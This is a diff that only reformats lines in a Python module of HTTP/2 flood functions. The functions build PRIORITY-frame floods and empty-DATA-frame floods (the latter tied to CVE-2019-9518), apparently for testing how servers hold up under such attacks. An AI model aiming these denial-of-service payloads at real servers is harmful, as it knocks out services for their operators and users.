@@ -131,7 +131,9 @@ def ping_flood(address, seconds):
 def priority_flood(address, seconds):
     """Moves idle streams about in the tree of priorities."""
     moves = b"".join(
-        frames.frame(frames.PRIORITY, struct.pack(">IB", 2 * (i * 7 % 5000) + 1, i % 256), stream=2 * i + 1)
+        frames.frame(
+            frames.PRIORITY, struct.pack(">IB", 2 * (i * 7 % 5000) + 1, i % 256), stream=2 * i + 1
+        )
         for i in range(5000)
         if i * 7 % 5000 != i
     )
@@ -146,7 +148,9 @@ def window_update_flood(address, seconds):
 
 def empty_data_flood(address, seconds):
     """Sends DATA frames without data on an open call (CVE-2019-9518)."""
-    opening = OPENING + frames.frame(frames.HEADERS, frames.request(frames.REFLECTION), frames.END_HEADERS, 1)
+    opening = OPENING + frames.frame(
+        frames.HEADERS, frames.request(frames.REFLECTION), frames.END_HEADERS, 1
+    )
     return flood(address, seconds, repeating(frames.frame(frames.DATA, stream=1) * 10_000, opening))
 
 
